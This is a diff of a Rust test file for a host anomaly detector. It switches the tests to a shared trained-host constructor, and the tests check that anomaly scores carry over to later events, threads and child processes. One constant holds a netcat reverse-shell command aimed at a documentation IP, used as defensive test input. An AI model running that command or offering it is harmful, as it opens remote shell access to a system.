@@ -2,15 +2,6 @@
 
 use crate::support::{Host, clone, config, connect, exec};
 
-fn host() -> (tempfile::TempDir, Host) {
-    let directory = tempfile::tempdir().expect("a directory");
-    let mut host = Host::new(&config(directory.path(), 20));
-    for pid in 100..140 {
-        host.event(exec(pid, 1, "/usr/sbin/nginx -g daemon").event());
-    }
-    (directory, host)
-}
-
 fn score_at(host: &mut Host, tid: i64) -> Option<String> {
     let event = host.event(connect(tid));
     host.field(&event, "anomaly.score")
@@ -20,7 +11,7 @@ const NOVEL: &str = "/usr/bin/nc -e /bin/sh 203.0.113.7 4444";
 
 #[test]
 fn later_events_of_the_process_carry_it_with_its_reason() {
-    let (_directory, mut host) = host();
+    let (_directory, mut host) = Host::learned();
     let execution = host.event(exec(200, 1, NOVEL).event());
     let own = host.field(&execution, "anomaly.score");
     let later = host.event(connect(200));
@@ -35,7 +26,7 @@ fn later_events_of_the_process_carry_it_with_its_reason() {
 
 #[test]
 fn threads_and_children_carry_it_until_they_execute_something() {
-    let (_directory, mut host) = host();
+    let (_directory, mut host) = Host::learned();
     let own = host.score(&exec(200, 1, NOVEL));
     assert!(own.is_some());
     host.event(clone(201, 200, 1));
@@ -51,7 +42,7 @@ fn threads_and_children_carry_it_until_they_execute_something() {
 
 #[test]
 fn a_thread_that_was_never_heard_of_falls_back_to_its_process() {
-    let (_directory, mut host) = host();
+    let (_directory, mut host) = Host::learned();
     // The thread is there before its process executes: nothing is copied to it.
     host.event(clone(200, 200, 1));
     host.event(clone(201, 200, 1));
@@ -62,7 +53,7 @@ fn a_thread_that_was_never_heard_of_falls_back_to_its_process() {
 
 #[test]
 fn what_an_anomalous_process_starts_stays_suspicious() {
-    let (_directory, mut host) = host();
+    let (_directory, mut host) = Host::learned();
     host.event(exec(200, 1, NOVEL).event());
     host.event(clone(201, 201, 200));
     let child = host.event(exec(201, 200, "/usr/sbin/nginx -g daemon").event());
@@ -72,7 +63,7 @@ fn what_an_anomalous_process_starts_stays_suspicious() {
 
 #[test]
 fn each_execution_is_judged_once_whatever_asks_for_it() {
-    let (directory, mut first) = host();
+    let (directory, mut first) = Host::learned();
     let mut second = Host::new(&config(directory.path(), 20));
     let event = exec(200, 1, NOVEL);
     let (learned, judged) = (first.metric("scored"), first.metric("judged_from_event"));
